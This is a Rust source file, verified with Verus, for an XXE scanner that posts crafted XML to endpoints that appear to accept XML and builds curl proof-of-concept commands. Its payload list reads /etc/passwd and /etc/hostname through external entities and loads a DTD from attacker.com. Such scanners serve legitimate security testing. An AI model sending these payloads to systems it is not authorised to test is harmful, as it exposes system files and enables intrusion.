//! The XXE detector: posts XML documents with external entities to
//! endpoints that look like they take XML.
use vstd::prelude::*;
use crate::client::HttpResponse;
use crate::payloads::{payloads_view, Payload, PayloadView};
use crate::scanners::probe::{Probe, ProbeView, probes_view};
use crate::text::{contains_any, excerpt, make_excerpt, replace_all, replace_char, seq_contains, str_contains};
use crate::types::{FindingView, HttpMethod, Severity, VulnKind, Vulnerability, VulnerabilityType};

verus! {

/// Path fragments of endpoints that probably accept XML.
pub open spec fn xml_indicators() -> Seq<Seq<char>> {
    seq!["/api/xml"@, "/xml"@, "/soap"@, "/wsdl"@, ".xml"@, "/upload"@, "/import"@]
}

pub open spec fn looks_like_xml(url: Seq<char>) -> bool {
    exists|i: int| 0 <= i < xml_indicators().len() && seq_contains(url, #[trigger] xml_indicators()[i])
}

/// The entity-expansion documents: classic SYSTEM entity, parameter entity,
/// blind external DTD, SVG-embedded, CDATA-wrapped.
pub open spec fn xxe_payloads() -> Seq<PayloadView> {
    seq![
        PayloadView {
            value: r#"<?xml version="1.0"?>
<!DOCTYPE foo [
<!ELEMENT foo ANY>
<!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<foo>&xxe;</foo>"#@,
            description: "Classic XXE with SYSTEM entity"@,
            patterns: seq!["root:"@, "/bin/bash"@],
        },
        PayloadView {
            value: r#"<?xml version="1.0"?>
<!DOCTYPE foo [
<!ENTITY % xxe SYSTEM "file:///etc/passwd">
%xxe;
]>
<foo>test</foo>"#@,
            description: "XXE with parameter entity"@,
            patterns: seq!["root:"@],
        },
        PayloadView {
            value: r#"<?xml version="1.0"?>
<!DOCTYPE foo [
<!ENTITY % xxe SYSTEM "http://attacker.com/evil.dtd">
%xxe;
]>
<foo>test</foo>"#@,
            description: "Blind XXE with external DTD"@,
            patterns: seq![],
        },
        PayloadView {
            value: r#"<?xml version="1.0" standalone="yes"?>
<!DOCTYPE test [
<!ENTITY xxe SYSTEM "file:///etc/hostname">
]>
<svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg">
<text font-size="16" x="0" y="16">&xxe;</text>
</svg>"#@,
            description: "XXE via SVG upload"@,
            patterns: seq![],
        },
        PayloadView {
            value: r#"<?xml version="1.0"?>
<!DOCTYPE foo [
<!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<foo><![CDATA[&xxe;]]></foo>"#@,
            description: "XXE with CDATA"@,
            patterns: seq!["root:"@],
        },
    ]
}

pub open spec fn xxe_probe(target: Seq<char>, p: PayloadView) -> ProbeView {
    ProbeView {
        method: HttpMethod::POST,
        url: target,
        headers: seq![("Content-Type"@, "application/xml"@)],
        body: Some(p.value),
        parameter: None,
        payload: p,
    }
}

/// No probe unless the endpoint looks like it takes XML.
pub open spec fn xxe_probes(target: Seq<char>) -> Seq<ProbeView> {
    if looks_like_xml(target) {
        xxe_payloads().map_values(|p: PayloadView| xxe_probe(target, p))
    } else {
        Seq::empty()
    }
}

/// The document as a shell argument: newlines as `\n`, quotes escaped.
pub open spec fn shell_escaped(s: Seq<char>) -> Seq<char> {
    replace_char(replace_char(s, '\n', "\\n"@), '"', "\\\""@)
}

pub open spec fn xxe_finding(probe: ProbeView, resp: HttpResponse, target: Seq<char>) -> Option<FindingView> {
    if probe.payload.patterns.len() > 0 && contains_any(resp.body@, probe.payload.patterns) {
        Some(
            FindingView {
                vuln_type: VulnKind::XXE,
                severity: Severity::High,
                url: target,
                method: HttpMethod::POST,
                parameter: None,
                payload: probe.payload.value,
                evidence: excerpt(resp.body@, 300),
                description: "XML External Entity (XXE) vulnerability detected using "@ + probe.payload.description
                    + ". The application parses XML with external entities enabled."@,
                remediation: "Disable external entity processing in XML parsers. Use safe XML parsing libraries. Validate and sanitize all XML input."@,
                poc: Some(
                    "curl -X POST -H 'Content-Type: application/xml' -d '"@ + shell_escaped(probe.payload.value)
                        + "' '"@ + target + "'"@,
                ),
            },
        )
    } else {
        None
    }
}

pub struct XxeScanner;

impl XxeScanner {
    pub fn new() -> XxeScanner {
        XxeScanner
    }

    pub fn name(&self) -> (r: &'static str)
        ensures
            r@ == "XXE Scanner"@,
    {
        "XXE Scanner"
    }

    pub fn vuln_type(&self) -> (r: VulnerabilityType)
        ensures
            r@ == VulnKind::XXE,
    {
        VulnerabilityType::XXE
    }

    pub fn get_xxe_payloads(&self) -> (r: Vec<Payload>)
        ensures
            payloads_view(r@) == xxe_payloads(),
    {
        let mut out: Vec<Payload> = Vec::new();
        out.push(Payload::new(
            r#"<?xml version="1.0"?>
<!DOCTYPE foo [
<!ELEMENT foo ANY>
<!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<foo>&xxe;</foo>"#,
            "Classic XXE with SYSTEM entity",
            vec!["root:", "/bin/bash"],
        ));
        out.push(Payload::new(
            r#"<?xml version="1.0"?>
<!DOCTYPE foo [
<!ENTITY % xxe SYSTEM "file:///etc/passwd">
%xxe;
]>
<foo>test</foo>"#,
            "XXE with parameter entity",
            vec!["root:"],
        ));
        out.push(Payload::new(
            r#"<?xml version="1.0"?>
<!DOCTYPE foo [
<!ENTITY % xxe SYSTEM "http://attacker.com/evil.dtd">
%xxe;
]>
<foo>test</foo>"#,
            "Blind XXE with external DTD",
            vec![],
        ));
        out.push(Payload::new(
            r#"<?xml version="1.0" standalone="yes"?>
<!DOCTYPE test [
<!ENTITY xxe SYSTEM "file:///etc/hostname">
]>
<svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg">
<text font-size="16" x="0" y="16">&xxe;</text>
</svg>"#,
            "XXE via SVG upload",
            vec![],
        ));
        out.push(Payload::new(
            r#"<?xml version="1.0"?>
<!DOCTYPE foo [
<!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<foo><![CDATA[&xxe;]]></foo>"#,
            "XXE with CDATA",
            vec!["root:"],
        ));
        assert(out@[0]@.patterns =~= seq!["root:"@, "/bin/bash"@]);
        assert(out@[1]@.patterns =~= seq!["root:"@]);
        assert(out@[2]@.patterns =~= seq![]);
        assert(out@[3]@.patterns =~= seq![]);
        assert(out@[4]@.patterns =~= seq!["root:"@]);
        assert(payloads_view(out@) =~= xxe_payloads());
        out
    }

    pub fn looks_like_xml_endpoint(&self, url: &str) -> (r: bool)
        ensures
            r == looks_like_xml(url@),
    {
        let ind = vec!["/api/xml", "/xml", "/soap", "/wsdl", ".xml", "/upload", "/import"];
        assert(ind@.map_values(|s: &str| s@) =~= xml_indicators());
        let mut i: usize = 0;
        while i < ind.len()
            invariant
                0 <= i <= ind.len(),
                ind@.map_values(|s: &str| s@) == xml_indicators(),
                forall|k: int| 0 <= k < i ==> !seq_contains(url@, #[trigger] xml_indicators()[k]),
            decreases ind.len() - i,
        {
            if str_contains(url, ind[i]) {
                assert(seq_contains(url@, xml_indicators()[i as int]));
                return true;
            }
            i += 1;
        }
        false
    }

    /// One POST per document, when the endpoint looks like it takes XML.
    pub fn plan(&self, target: &str) -> (r: Vec<Probe>)
        ensures
            probes_view(r@) == xxe_probes(target@),
    {
        let mut out: Vec<Probe> = Vec::new();
        if !self.looks_like_xml_endpoint(target) {
            assert(probes_view(out@) =~= xxe_probes(target@));
            return out;
        }
        let payloads = self.get_xxe_payloads();
        let ghost pv = payloads_view(payloads@);
        let mut i: usize = 0;
        while i < payloads.len()
            invariant
                0 <= i <= payloads.len(),
                pv == payloads_view(payloads@),
                pv == xxe_payloads(),
                probes_view(out@) == pv.subrange(0, i as int).map_values(|p: PayloadView| xxe_probe(target@, p)),
            decreases payloads.len() - i,
        {
            let mut headers: Vec<(String, String)> = Vec::new();
            headers.push((String::from_str("Content-Type"), String::from_str("application/xml")));
            let p = payloads[i].duplicate();
            let pr = Probe {
                method: HttpMethod::POST,
                url: String::from_str(target),
                headers,
                body: Some(p.value.clone()),
                parameter: None,
                payload: p,
            };
            assert(pr@.headers =~= seq![("Content-Type"@, "application/xml"@)]);
            let ghost prev = out@;
            out.push(pr);
            assert(probes_view(out@) =~= probes_view(prev).push(pr@));
            assert(pv.subrange(0, i + 1).map_values(|p: PayloadView| xxe_probe(target@, p)) =~= pv.subrange(
                0,
                i as int,
            ).map_values(|p: PayloadView| xxe_probe(target@, p)).push(xxe_probe(target@, pv[i as int])));
            i += 1;
        }
        assert(pv.subrange(0, payloads.len() as int) =~= pv);
        out
    }

    /// Whether any pattern occurs in `body`; never for an empty pattern list.
    pub fn is_vulnerable(&self, body: &str, patterns: &Vec<String>) -> (r: bool)
        ensures
            r == (patterns@.len() > 0 && contains_any(body@, patterns@.map_values(|p: String| p@))),
    {
        if patterns.len() == 0 {
            return false;
        }
        crate::text::contains_any_of(body, patterns)
    }

    /// Judges the response to an XXE probe; the finding gets `id` and `timestamp`.
    pub fn assess(&self, target: &str, probe: &Probe, resp: &HttpResponse, id: String, timestamp: i64) -> (r: Option<
        Vulnerability,
    >)
        ensures
            match r {
                Some(v) => xxe_finding(probe@, *resp, target@) == Some(v.finding()) && v.id == id
                    && v.timestamp == timestamp,
                None => xxe_finding(probe@, *resp, target@) is None,
            },
    {
        if !self.is_vulnerable(resp.body.as_str(), &probe.payload.detection_patterns) {
            return None;
        }
        let mut description = String::from_str("XML External Entity (XXE) vulnerability detected using ");
        description.append(probe.payload.description.as_str());
        description.append(". The application parses XML with external entities enabled.");
        let step = replace_all(probe.payload.value.as_str(), '\n', "\\n");
        let escaped = replace_all(step.as_str(), '"', "\\\"");
        let mut poc = String::from_str("curl -X POST -H 'Content-Type: application/xml' -d '");
        poc.append(escaped.as_str());
        poc.append("' '");
        poc.append(target);
        poc.append("'");
        Some(
            Vulnerability {
                id,
                vuln_type: VulnerabilityType::XXE,
                severity: Severity::High,
                url: String::from_str(target),
                method: HttpMethod::POST,
                parameter: None,
                payload: probe.payload.value.clone(),
                evidence: make_excerpt(resp.body.as_str(), 300),
                description,
                remediation: String::from_str(
                    "Disable external entity processing in XML parsers. Use safe XML parsing libraries. Validate and sanitize all XML input.",
                ),
                poc: Some(poc),
                ai_confidence: None,
                ai_analysis: None,
                timestamp,
            },
        )
    }
}

} // verus!
